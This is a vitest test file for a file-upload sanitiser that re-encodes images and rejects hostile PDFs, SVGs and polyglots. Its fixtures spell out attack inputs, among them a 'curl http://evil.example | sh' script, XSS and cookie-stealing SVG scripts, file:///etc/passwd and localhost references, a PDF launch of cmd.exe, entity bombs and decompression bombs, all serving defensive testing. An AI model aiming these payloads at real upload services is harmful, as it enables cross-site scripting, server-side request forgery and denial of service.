import { crc32, deflateSync } from 'node:zlib';
import {
  PDFDocument,
  PDFName,
  PDFString,
  StandardFonts,
  type PDFObject,
  type PDFPage,
} from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { AppError, type ErrorCode } from '../errors.js';
import { acceptUpload, type AcceptedFile } from './index.js';
import { checkSvgIsInert, drawSvg } from './svg.js';

const MB = 1024 * 1024;
const ALL = ['jpeg', 'png', 'webp', 'pdf'] as const;

function upload(data: Buffer, fileName = 'document.jpg', extra: object = {}) {
  return acceptUpload({
    data,
    fileName,
    maxBytes: 5 * MB,
    allowed: [...ALL],
    owner: 'user:1',
    ...extra,
  });
}

async function refusal(promise: Promise<unknown>, code: ErrorCode, message: RegExp) {
  const err = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(AppError);
  expect((err as AppError).code).toBe(code);
  expect((err as AppError).message).toMatch(message);
}

function minimalPdf(body = ''): Buffer {
  return Buffer.from(
    [
      '%PDF-1.4',
      '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
      '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
      '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj',
      body,
      'trailer << /Root 1 0 R >>',
      '%%EOF',
      '',
    ].join('\n'),
    'latin1',
  );
}

function pngChunk(type: string, body: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), body])), 0);
  return Buffer.concat([head, body, crc]);
}

/** A one-colour 1-bit PNG built by hand: a few KB that decode to width×height pixels. */
function onebitPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale, deflate, no filter, not interlaced
  const rows = Buffer.alloc((1 + Math.ceil(width / 8)) * height);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function riffChunk(type: string, body: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.write(type, 0, 'latin1');
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body, Buffer.alloc(body.length % 2)]);
}

function uint24(value: number): Buffer {
  const out = Buffer.alloc(3);
  out.writeUIntLE(value, 0, 3);
  return out;
}

/** An animated WebP with a width×height canvas and `frames` frames of one 1×1 pixel each. */
async function animatedWebp(width: number, height: number, frames: number): Promise<Buffer> {
  const still = await sharp({ create: { width: 1, height: 1, channels: 3, background: 'white' } })
    .webp({ lossless: true })
    .toBuffer();
  const vp8l = still.subarray(12); // the VP8L chunk, after "RIFF" size "WEBP"
  const canvas = Buffer.concat([
    Buffer.from([0x02, 0, 0, 0]),
    uint24(width - 1),
    uint24(height - 1),
  ]);
  const frame = riffChunk(
    'ANMF',
    Buffer.concat([
      uint24(0),
      uint24(0),
      uint24(0),
      uint24(0),
      uint24(100),
      Buffer.from([0]),
      vp8l,
    ]),
  );
  const body = Buffer.concat([
    Buffer.from('WEBP', 'latin1'),
    riffChunk('VP8X', canvas),
    riffChunk('ANIM', Buffer.from([255, 255, 255, 255, 0, 0])),
    ...Array.from({ length: frames }, () => frame),
  ]);
  const head = Buffer.alloc(8);
  head.write('RIFF', 0, 'latin1');
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body]);
}

/** A real JPEG whose frame header is rewritten to claim width×height; its data is 64×64. */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 64, height: 64, channels: 3, background: 'grey' } })
    .jpeg({ mozjpeg: false })
    .toBuffer();
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}

type PdfBody = string | Buffer;

/** A stream object's body: its dictionary (with /Length) and data. */
function pdfStream(data: PdfBody, dict = ''): Buffer {
  const bytes = Buffer.isBuffer(data) ? data : Buffer.from(data, 'latin1');
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${dict} >>\nstream\n`, 'latin1'),
    bytes,
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

/** A FlateDecode-compressed object stream holding `objects`, written by hand. */
function objectStream(objects: [number, string][], type = '/Type /ObjStm'): Buffer {
  let header = '';
  let body = '';
  for (const [number, text] of objects) {
    header += `${number} ${body.length} `;
    body += `${text}\n`;
  }
  const data = deflateSync(Buffer.from(header + body, 'latin1'));
  return pdfStream(
    data,
    `${type} /N ${objects.length} /First ${header.length} /Filter /FlateDecode`,
  );
}

/**
 * A PDF written by hand with a cross-reference table: 1 is the catalog, 2 the page tree, 3 the
 * only page (`catalog` and `page` add entries to them), then `objects` as [number, body].
 */
function handPdf(
  options: {
    catalog?: string;
    page?: string;
    objects?: [number, PdfBody][];
    trailer?: string;
  } = {},
): Buffer {
  const { catalog = '', page = '', objects = [], trailer = '' } = options;
  const all: [number, PdfBody][] = [
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page} >>`],
    ...objects,
  ];
  const parts = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]?.length ?? 0;
  const offsets = new Map<number, number>();
  for (const [number, body] of all) {
    offsets.set(number, offset);
    const bytes = Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1');
    const part = Buffer.concat([
      Buffer.from(`${number} 0 obj\n`, 'latin1'),
      bytes,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    parts.push(part);
    offset += part.length;
  }
  const size = Math.max(...offsets.keys()) + 1;
  let xref = `xref\n0 ${size}\n0000000000 65535 f \n`;
  for (let number = 1; number < size; number++) {
    const at = offsets.get(number);
    xref +=
      at === undefined ? '0000000000 65535 f \n' : `${String(at).padStart(10, '0')} 00000 n \n`;
  }
  xref += `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${offset}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(xref, 'latin1')]);
}

/**
 * A PDF made by pdf-lib the way ordinary software writes one: text pages, and every object that
 * is not a stream packed into FlateDecode-compressed object streams with a cross-reference stream.
 */
async function libraryPdf(
  change: (doc: PDFDocument, pages: PDFPage[]) => void | Promise<void> = () => undefined,
  pageCount = 1,
): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const pages = Array.from({ length: pageCount }, (_, index) => {
    const page = doc.addPage([595, 842]);
    page.drawText(`Proof of payment, page ${index + 1}`, { x: 50, y: 780, size: 14, font });
    return page;
  });
  await change(doc, pages);
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

function annotate(doc: PDFDocument, page: PDFPage, annotation: Record<string, unknown>): void {
  const ref = doc.context.register(
    doc.context.obj({
      Type: 'Annot',
      Rect: [50, 50, 250, 70],
      Border: [0, 0, 0],
      ...annotation,
    } as never),
  );
  page.node.set(PDFName.of('Annots'), doc.context.obj([ref]));
}

function set(doc: PDFDocument, key: string, value: PDFObject): void {
  doc.catalog.set(PDFName.of(key), value);
}

let png: Buffer;
let jpegWithExif: Buffer;
let webp: Buffer;

beforeAll(async () => {
  const create = { width: 64, height: 48, channels: 3 as const, background: '#3366cc' };
  png = await sharp({ create }).png().toBuffer();
  jpegWithExif = await sharp({ create })
    .jpeg()
    .withExif({
      IFD0: { Artist: 'Secret Artist Name', Copyright: 'GPS-LEAK-MARKER' },
    })
    .toBuffer();
  webp = await sharp({ create }).webp().toBuffer();
});

describe('acceptUpload: accepted files', () => {
  it('re-encodes a PNG to WebP and reports hash and dimensions of the stored bytes', async () => {
    const out = await upload(png, 'scan.png');
    expect(out.mime).toBe('image/webp');
    expect(out.extension).toBe('webp');
    expect(out.bytes).toBe(out.data.length);
    expect(out.sha256).toMatch(/^[0-9a-f]{64}$/);
    const { createHash } = await import('node:crypto');
    expect(out.sha256).toBe(createHash('sha256').update(out.data).digest('hex'));
    expect([out.width, out.height]).toEqual([64, 48]);
    expect((await sharp(out.data).metadata()).format).toBe('webp');
  });

  it('re-encodes a JPEG as JPEG and strips its EXIF (artist, copyright, GPS)', async () => {
    const before = await sharp(jpegWithExif).metadata();
    expect(before.exif).toBeDefined();
    expect(jpegWithExif.includes('Secret Artist Name')).toBe(true);

    const out = await upload(jpegWithExif, 'passport.jpeg');
    expect(out.mime).toBe('image/jpeg');
    expect(out.extension).toBe('jpg');
    const after = await sharp(out.data).metadata();
    expect(after.format).toBe('jpeg');
    expect(after.exif).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(after.icc).toBeUndefined();
    expect(out.data.includes('Secret Artist Name')).toBe(false);
    expect(out.data.includes('GPS-LEAK-MARKER')).toBe(false);
  });

  it('applies EXIF orientation to the pixels before dropping it', async () => {
    const rotated = await sharp({
      create: { width: 60, height: 20, channels: 3, background: 'red' },
    })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const out = await upload(rotated);
    expect([out.width, out.height]).toEqual([20, 60]);
    expect((await sharp(out.data).metadata()).orientation).toBeUndefined();
  });

  it('re-encodes a WebP as WebP', async () => {
    const out = await upload(webp, 'selfie.webp');
    expect(out.mime).toBe('image/webp');
    expect(out.extension).toBe('webp');
  });

  it('caps dimensions at 4000px keeping the aspect ratio', async () => {
    const wide = await sharp({
      create: { width: 8000, height: 1000, channels: 3, background: 'white' },
    })
      .png()
      .toBuffer();
    const out = await upload(wide, 'wide.png');
    expect([out.width, out.height]).toEqual([4000, 500]);
  });

  it('decides the type from content, ignoring the name and the declared type', async () => {
    const out = await upload(png, 'statement.pdf', { declaredType: 'application/pdf' });
    expect(out.mime).toBe('image/webp');
  });

  it('accepts a minimal valid PDF, kept as the objects it checked', async () => {
    const pdf = minimalPdf();
    const out = await upload(pdf, 'payment-proof.pdf');
    expect(out.mime).toBe('application/pdf');
    expect(out.extension).toBe('pdf');
    expect((await PDFDocument.load(out.data)).getPageCount()).toBe(1);
    expect(out.width).toBeUndefined();
  });

  it('destroys data appended to a PNG (ZIP and HTML polyglots)', async () => {
    const zipMarker = 'PK\u0003\u0004APPENDED-ZIP-MARKER';
    const htmlMarker = '<html><script>alert("APPENDED-HTML-MARKER")</script></html>';
    for (const marker of [zipMarker, htmlMarker]) {
      const polyglot = Buffer.concat([png, Buffer.from(marker, 'latin1')]);
      const out = await upload(polyglot, 'receipt.png');
      expect(out.data.includes('APPENDED')).toBe(false);
      expect(out.data.includes('<html')).toBe(false);
      expect(out.data.includes('PK\u0003\u0004')).toBe(false);
    }
  });

  it('accepts a file of exactly maxBytes', async () => {
    const exact = Buffer.concat([png, Buffer.alloc(MB - png.length)]);
    expect(exact.length).toBe(MB);
    const out = await upload(exact, 'exact.png', { maxBytes: MB });
    expect(out.mime).toBe('image/webp');
  });
});

describe('acceptUpload: refusals', () => {
  it('refuses one byte over maxBytes, naming the limit in MB', async () => {
    const over = Buffer.concat([png, Buffer.alloc(MB + 1 - png.length)]);
    await refusal(upload(over, 'big.png', { maxBytes: MB }), 'UNPROCESSABLE', /too large.*1 MB/);
    await refusal(
      upload(Buffer.alloc(11 * MB, 1), 'big.png', { maxBytes: 10 * MB }),
      'UNPROCESSABLE',
      /limit is 10 MB/,
    );
  });

  it('refuses an empty file', async () => {
    await refusal(upload(Buffer.alloc(0)), 'UNPROCESSABLE', /empty/);
  });

  it('refuses a shell script renamed x.jpg even when declared image/jpeg', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
    await refusal(
      upload(script, 'x.jpg', { declaredType: 'image/jpeg' }),
      'UNPROCESSABLE',
      /not accepted.*JPEG, PNG, WebP or PDF/,
    );
  });

  it('refuses HTML, SVG with script, GIF and ZIP', async () => {
    const html = Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>');
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
    );
    const gif = await sharp({ create: { width: 4, height: 4, channels: 3, background: 'red' } })
      .gif()
      .toBuffer();
    const zip = Buffer.from('PK\u0003\u0004\u0014\u0000\u0000\u0000\u0000\u0000' + 'x'.repeat(40));
    for (const [name, data] of [
      ['page.jpg', html],
      ['logo.png', svg],
      ['anim.png', gif],
      ['docs.pdf', zip],
    ] as const) {
      await refusal(upload(data, name), 'UNPROCESSABLE', /type of file is not accepted/);
    }
  });

  it('refuses a type that is valid but not in the allowed list', async () => {
    await refusal(
      upload(minimalPdf(), 'proof.pdf', { allowed: ['jpeg', 'png'] }),
      'UNPROCESSABLE',
      /Upload a JPEG or PNG file/,
    );
  });

  it('refuses an HTML/PDF polyglot', async () => {
    const polyglot = Buffer.from(
      '%PDF-1.4\n<html><script>fetch("/api/me")</script></html>\ntrailer <<>>\n%%EOF\n',
    );
    await refusal(upload(polyglot, 'proof.pdf'), 'UNPROCESSABLE', /web page content/);
    const doctype = minimalPdf('% <!DocType HTML>');
    await refusal(upload(doctype, 'proof.pdf'), 'UNPROCESSABLE', /web page content/);
  });

  it('refuses PDFs with JavaScript, launch actions or embedded files, also #-escaped', async () => {
    const bodies = [
      '4 0 obj << /Type /Action /S /JavaScript /JS (app.alert(1)) >> endobj',
      '4 0 obj << /OpenAction << /S /JS (x) >> >> endobj',
      '4 0 obj << /S /Launch /F (cmd.exe) >> endobj',
      '4 0 obj << /Names << /EmbeddedFiles 5 0 R >> >> endobj',
      '4 0 obj << /Type /EmbeddedFile >> endobj',
      '4 0 obj << /S /J#61vaScript >> endobj',
    ];
    for (const body of bodies) {
      await refusal(upload(minimalPdf(body), 'p.pdf'), 'UNPROCESSABLE', /scripts, launch/);
    }
  });

  it('refuses a PDF without %%EOF near the end', async () => {
    const truncated = minimalPdf().subarray(0, 60);
    await refusal(upload(truncated, 'p.pdf'), 'UNPROCESSABLE', /incomplete/);
    const farEof = Buffer.concat([minimalPdf(), Buffer.alloc(2048, 0x20)]);
    await refusal(upload(farEof, 'p.pdf'), 'UNPROCESSABLE', /incomplete/);
  });

  it('refuses a PDF whose header is not at offset 0', async () => {
    // file-type tolerates nothing here either, so the type check catches it first.
    const shifted = Buffer.concat([Buffer.from('   '), minimalPdf()]);
    await refusal(upload(shifted, 'p.pdf'), 'UNPROCESSABLE', /not accepted|PDF header/);
  });

  it('refuses an image over 40 megapixels from its header, and takes one of exactly 40', async () => {
    await refusal(
      upload(onebitPng(8000, 5001), 'huge.png'),
      'UNPROCESSABLE',
      /too large.*40 megapixels/,
    );
    const exact = await upload(onebitPng(8000, 5000), 'exact.png');
    expect([exact.width, exact.height]).toEqual([4000, 2500]);
  });

  it('refuses a decompression bomb before decoding it, whole or cut short', async () => {
    // 20000×20000 is 400 megapixels in about 50 KB; decoding it would take many seconds.
    const bomb = onebitPng(20_000, 20_000);
    expect(bomb.length).toBeLessThan(100 * 1024);
    for (const data of [bomb, bomb.subarray(0, 2048)]) {
      await refusal(upload(data, 'bomb.png'), 'UNPROCESSABLE', /too large.*40 megapixels/);
    }
  });

  it('refuses a damaged JPEG that claims a huge size by its header', async () => {
    const huge = await jpegClaiming(60_000, 60_000);
    await refusal(upload(huge, 'id.jpg'), 'UNPROCESSABLE', /too large.*40 megapixels/);
    // Under the limit, the decoder runs out of data at once and the file is refused as damaged.
    const lying = await jpegClaiming(6000, 6000);
    await refusal(upload(lying, 'id.jpg'), 'UNPROCESSABLE', /could not be read/);
  });

  it('counts every frame of an animated image against the limit', async () => {
    // Each 8000×1000 frame is 8 MP; six of them are 48 MP.
    await refusal(
      upload(await animatedWebp(8000, 1000, 6), 'moving.webp'),
      'UNPROCESSABLE',
      /too large.*40 megapixels/,
    );
    const small = await upload(await animatedWebp(400, 300, 6), 'moving.webp');
    expect([small.width, small.height]).toEqual([400, 300]);
    expect((await sharp(small.data).metadata()).pages).toBeUndefined();
  });

  it('refuses a truncated or corrupt JPEG', async () => {
    const big = await sharp({ create: { width: 300, height: 300, channels: 3, background: 'red' } })
      .jpeg()
      .toBuffer();
    await refusal(
      upload(big.subarray(0, Math.floor(big.length / 2))),
      'UNPROCESSABLE',
      /could not be read/,
    );
    const garbage = Buffer.concat([big.subarray(0, 4), Buffer.alloc(500, 0xaa)]);
    await refusal(upload(garbage), 'UNPROCESSABLE', /could not be read|not accepted/);
  });

  it('refuses unacceptable file names', async () => {
    const names = [
      '../secret.jpg',
      '/etc/passwd',
      'a\\b.jpg',
      'dir/file.jpg',
      'a..jpg',
      'photo\u0000.jpg',
      'photo\n.jpg',
      'photo\u007f.jpg',
      'gpj\u202e.exe',
      '',
      '   ',
      'a'.repeat(201),
    ];
    for (const name of names) {
      await refusal(upload(png, name), 'BAD_REQUEST', /^The file name is not acceptable/);
    }
    await expect(upload(png, `${'a'.repeat(196)}.png`)).resolves.toBeDefined();
  });
});

describe('acceptUpload: GIF and SVG (payment proofs)', () => {
  const PROOF = ['jpeg', 'png', 'webp', 'gif', 'svg'] as const;
  const proof = (data: Buffer | string, fileName = 'proof.svg') =>
    acceptUpload({
      data: Buffer.isBuffer(data) ? data : Buffer.from(data),
      fileName,
      maxBytes: 5 * MB,
      allowed: [...PROOF],
      owner: 'user:1',
    });
  const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40">';
  const XLINK =
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40">';
  const frame = (background: string) =>
    sharp({ create: { width: 40, height: 30, channels: 3, background } })
      .png()
      .toBuffer();
  /** The colour of the stored picture at (x, y). */
  async function pixel(data: Buffer, x: number, y: number) {
    const { data: raw, info } = await sharp(data).raw().toBuffer({ resolveWithObject: true });
    const at = (y * info.width + x) * info.channels;
    return [raw[at], raw[at + 1], raw[at + 2]];
  }

  it('keeps the first frame of a GIF, re-encoded as a still WebP', async () => {
    const animated = await sharp([await frame('#ff0000'), await frame('#0000ff')], {
      join: { animated: true },
    })
      .gif()
      .toBuffer();
    expect((await sharp(animated).metadata()).pages).toBe(2);
    const out = await proof(animated, 'receipt.gif');
    expect(out).toMatchObject({ mime: 'image/webp', extension: 'webp', width: 40, height: 30 });
    const stored = await sharp(out.data).metadata();
    expect(stored.format).toBe('webp');
    expect(stored.pages).toBeUndefined();
    const [red, , blue] = (await pixel(out.data, 20, 15)) as number[];
    expect(red).toBeGreaterThan(200);
    expect(blue).toBeLessThan(50);
  });

  it('destroys HTML and script appended to a GIF or PNG (polyglots)', async () => {
    const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } })
      .gif()
      .toBuffer();
    const tail = Buffer.from('<html><script>alert("APPENDED-MARKER")</script></html>');
    for (const [image, name] of [
      [gif, 'receipt.gif'],
      [png, 'receipt.png'],
    ] as const) {
      const out = await proof(Buffer.concat([image, tail]), name);
      expect(out.mime).toBe('image/webp');
      expect(out.data.includes('APPENDED-MARKER')).toBe(false);
      expect(out.data.includes('<script')).toBe(false);
    }
  });

  it('draws a clean SVG to pixels: never kept as SVG, whatever its name', async () => {
    const clean = [
      '<?xml version="1.0" encoding="UTF-8"?>',
      '<!-- exported by hand -->',
      XLINK,
      '<defs><linearGradient id="g"><stop offset="0" stop-color="#00f"/></linearGradient>',
      '<style><![CDATA[ .paid { fill: url(#g) } ]]></style></defs>',
      '<rect class="paid" width="80" height="40"/>',
      '<use xlink:href="#g"/><text x="4" y="20">Paid &amp; done &#169;</text>',
      '</svg>',
    ].join('\n');
    for (const name of ['proof.svg', 'proof.png', 'proof']) {
      const out = await proof(clean, name);
      expect(out).toMatchObject({ mime: 'image/webp', extension: 'webp' });
      // Drawn twice as sharp as its declared 80x40.
      expect([out.width, out.height]).toEqual([160, 80]);
      expect((await sharp(out.data).metadata()).format).toBe('webp');
      expect(out.data.includes('<svg')).toBe(false);
      const [red, , blue] = (await pixel(out.data, 150, 70)) as number[];
      expect(blue).toBeGreaterThan(200);
      expect(red).toBeLessThan(50);
    }
  });

  it('fits a large SVG canvas into 2000 px by its density, and refuses one that cannot fit', async () => {
    const large = await proof(
      '<svg xmlns="http://www.w3.org/2000/svg" width="20000" height="10000"><rect width="20000" height="10000" fill="#09c"/></svg>',
    );
    expect([large.width, large.height]).toEqual([2000, 1000]);
    await refusal(
      proof('<svg xmlns="http://www.w3.org/2000/svg" width="20000000" height="10"></svg>'),
      'UNPROCESSABLE',
      /SVG cannot be accepted: it is too large to draw/,
    );
  });

  it('refuses, before drawing, an SVG whose drawing would cost too much (issue 20)', async () => {
    const canvas = (inner: string) =>
      `<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000" viewBox="0 0 4000 4000">${inner}</svg>`;
    const full = '<rect width="4000" height="4000" fill="red"/>';
    const layers = (count: number, open: string, close = '</g>') =>
      canvas(Array.from({ length: count }, () => `${open}${full}${close}`).join(''));
    const mask = '<defs><mask id="m"><rect width="4000" height="4000" fill="white"/></mask></defs>';
    const refused = [
      [layers(65, '<g opacity="0.5">'), /transparent, masked or blended layers/],
      [layers(65, '<g style="opacity: .9">'), /transparent, masked or blended layers/],
      [layers(65, '<g style="mix-blend-mode:multiply">'), /transparent, masked or blended layers/],
      [
        canvas(
          mask +
            Array.from({ length: 9 }, () => '<rect width="9" height="9" mask="url(#m)"/>').join(''),
        ),
        /layers/,
      ],
      // 20 layers, repeated 4 times by <use>: 80 drawn.
      [
        canvas(
          `<g id="l">${Array.from({ length: 20 }, () => `<g opacity=".5">${full}</g>`).join('')}</g><use href="#l"/><use href="#l"/><use href="#l"/>`,
        ),
        /layers/,
      ],
      [
        canvas(
          '<defs><pattern id="p" width="1" height="1" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern></defs><rect width="4000" height="4000" fill="url(#p)"/>',
        ),
        /patterns or dashes are too fine/,
      ],
      [
        canvas(
          '<defs><pattern id="p" width="0.001" height="0.001"><rect width="1" height="1"/></pattern></defs><rect width="4000" height="4000" fill="url(#p)"/>',
        ),
        /patterns or dashes are too fine/,
      ],
      [
        canvas('<path d="M0 0 L4000 4000" stroke="#000" stroke-dasharray="0.01 0.01"/>'),
        /patterns or dashes are too fine/,
      ],
      [
        canvas('<path d="M0 0 L4000 4000" style="stroke:#000;stroke-dasharray:1,1"/>'),
        /patterns or dashes are too fine/,
      ],
      [canvas(`<path d="M0 0${' L1 1'.repeat(420_000)}"/>`), /too complex to draw/],
    ] as const;
    for (const [svg, message] of refused) {
      await refusal(proof(svg), 'UNPROCESSABLE', message);
    }
    // What a receipt or a chart does stays well inside: a few layers, coarse patterns and dashes.
    const fine = canvas(
      `${mask}<g opacity=".8">${full}</g><rect width="90" height="90" mask="url(#m)"/>` +
        '<defs><pattern id="p" width="100" height="100" patternUnits="userSpaceOnUse"><rect width="50" height="50"/></pattern></defs>' +
        '<rect width="4000" height="4000" fill="url(#p)" opacity=".3"/><path d="M0 0 L4000 4000" stroke="#000" stroke-dasharray="8 4"/>',
    );
    expect((await proof(fine)).mime).toBe('image/webp');
  });

  it('refuses an SVG with anything that runs: scripts, handlers, javascript:, foreign content, animation', async () => {
    const cases = [
      `${SVG}<script>alert(1)</script></svg>`,
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>`,
      `${SVG}<script><![CDATA[alert(1)]]></script></svg>`,
      `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>`,
      `${SVG}<rect width="1" height="1" onclick="alert(1)"/></svg>`,
      `${SVG}<rect width="1" height="1" ONMOUSEOVER='alert(1)'/></svg>`,
      `${XLINK}<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>`,
      `${XLINK}<a xlink:href="jav&#x61;script:alert(1)"><rect width="9" height="9"/></a></svg>`,
      `${SVG}<foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>`,
      `${SVG}<a><set attributeName="href" to="javascript:alert(1)"/></a></svg>`,
      `${SVG}<a><animate attributeName="href" values="http&#58;//evil.example/"/></a></svg>`,
      `${SVG}<iframe src="https://evil.example"/></svg>`,
    ];
    for (const svg of cases) {
      await refusal(proof(svg), 'UNPROCESSABLE', /SVG cannot be accepted: it contains/);
    }
  });

  it('refuses an SVG that refers outside itself: http(s), file, relative, data:, CSS url() and @import', async () => {
    const cases = [
      `${SVG}<image href="http://127.0.0.1:9/x.png" width="9" height="9"/></svg>`,
      `${SVG}<image href="https://evil.example/x.png"/></svg>`,
      `${XLINK}<image xlink:href="file:///etc/passwd"/></svg>`,
      `${XLINK}<image xlink:href\n =\n "other.svg"/></svg>`,
      `${SVG}<use href="sprite.svg#icon"/></svg>`,
      `${SVG}<use href="&#104;ttp://evil.example/#a"/></svg>`,
      `${SVG}<image href="data:image/png;base64,AAAA"/></svg>`,
      `${SVG}<image href=""/></svg>`,
      `${SVG}<rect width="9" height="9" style="fill:url( 'http://evil.example/y#z' )"/></svg>`,
      `${SVG}<rect width="9" height="9" fill="url(data:image/png;base64,AAAA)"/></svg>`,
      `${SVG}<style>rect { fill: url(https://evil.example/p.svg#g) }</style></svg>`,
      `${SVG}<style>@import "https://evil.example/s.css";</style></svg>`,
    ];
    for (const svg of cases) {
      await refusal(
        proof(svg),
        'UNPROCESSABLE',
        /SVG cannot be accepted: it refers to something outside/,
      );
    }
    // CSS escapes can spell url( or @import: not read, so refused.
    for (const svg of [
      `${SVG}<style>rect{fill:\\75rl(http://127.0.0.1:9/x.svg#g)}</style></svg>`,
      `${SVG}<style>@\\69mport "http://127.0.0.1:9/x.css";</style></svg>`,
      `${SVG}<rect style="fill:&#x5c;75rl(http://x/)"/></svg>`,
    ]) {
      await refusal(proof(svg), 'UNPROCESSABLE', /SVG cannot be accepted: its styles use escapes/);
    }
  });

  it('refuses entities, a DOCTYPE, style sheets and instructions', async () => {
    const cases = [
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]>${SVG}<text>&x;</text></svg>`,
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${SVG}</svg>`,
      `<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>${SVG}<text>&lol2;</text></svg>`,
      `${SVG}<text>&undeclared;</text></svg>`,
      `<?xml-stylesheet href="https://evil.example/s.css"?>${SVG}</svg>`,
      `${SVG}<?php echo 1; ?></svg>`,
    ];
    for (const svg of cases) {
      await refusal(proof(svg), 'UNPROCESSABLE', /SVG cannot be accepted: it declares/);
    }
  });

  it('refuses an SVG that is not well-formed XML, or not an SVG at all', async () => {
    const malformed = [
      `${SVG}<rect width="1" height="1"></svg>`,
      `${SVG}<g></rect></g></svg>`,
      `${SVG}<use href=#a /></svg>`,
      `${SVG}<rect width="1" width="2"/></svg>`,
      `${SVG}<rect width="1"height="2"/></svg>`,
      `${SVG}</svg><script>alert(1)</script>`,
      `${SVG}<text>a &amp b</text></svg>`,
      `${SVG}<text>&#0;</text></svg>`,
      SVG,
    ];
    for (const svg of malformed) {
      await refusal(proof(svg), 'UNPROCESSABLE', /SVG cannot be accepted: it is not well-formed/);
    }
    await refusal(
      proof('<SVG xmlns="http://www.w3.org/2000/svg"><SCRIPT>alert(1)</SCRIPT></SVG>'),
      'UNPROCESSABLE',
      /SVG cannot be accepted/,
    );
    const utf16 = Buffer.from(`\ufeff${SVG}</svg>`, 'utf16le');
    await refusal(proof(utf16), 'UNPROCESSABLE', /type of file is not accepted/);
  });

  it('refuses HTML pretending to be a picture, SVG inside or not', async () => {
    for (const html of [
      '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>',
      `<html><body>${SVG}</svg><script>alert(1)</script></body></html>`,
      `<div>${SVG}</svg></div>`,
    ]) {
      await refusal(proof(html, 'receipt.png'), 'UNPROCESSABLE', /type of file is not accepted/);
    }
  });

  it('refuses what would cost too much to draw: filters, <use> repeating itself, a loop', async () => {
    const blur = `<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000"><filter id="f"><feGaussianBlur stdDeviation="300"/></filter><rect width="4000" height="4000" filter="url(#f)"/></svg>`;
    const cssBlur = `${SVG}<rect width="9" height="9" style="filter: blur(300px)"/></svg>`;
    for (const svg of [blur, cssBlur]) {
      await refusal(proof(svg), 'UNPROCESSABLE', /it uses filter effects/);
    }
    // Twelve levels of ten <use> each: 10^12 elements drawn from a few KB.
    let defs = '<g id="a0"><rect width="1" height="1"/></g>';
    for (let level = 1; level <= 12; level += 1) {
      defs += `<g id="a${level}">${`<use href="#a${level - 1}"/>`.repeat(10)}</g>`;
    }
    const laughs = `${SVG}<defs>${defs}</defs><use href="#a12"/></svg>`;
    const loop = `${SVG}<g id="a"><use href="#a"/></g></svg>`;
    const deep = `${SVG}${'<g>'.repeat(100)}${'</g>'.repeat(100)}</svg>`;
    const many = `${SVG}${'<rect width="1" height="1"/>'.repeat(20_000)}</svg>`;
    // Refused by reading them, before anything is drawn (10^12 elements would never finish).
    for (const svg of [laughs, loop, deep, many]) {
      await refusal(proof(svg), 'UNPROCESSABLE', /it is too complex to draw/);
    }
  });

  // A backtracking reader would take hours over these; the test's own timeout is the alarm.
